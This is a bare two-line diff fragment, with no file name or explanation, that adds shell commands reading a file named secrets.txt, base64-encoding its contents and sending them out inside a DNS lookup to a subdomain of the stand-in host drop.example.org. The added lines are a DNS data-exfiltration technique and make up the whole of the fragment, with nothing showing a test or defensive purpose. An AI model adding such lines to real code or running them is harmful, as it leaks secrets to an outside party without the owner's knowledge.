@@ -1,0 +1,2 @@
+part=$(cat secrets.txt | base64)
+dig "$part.drop.example.org"
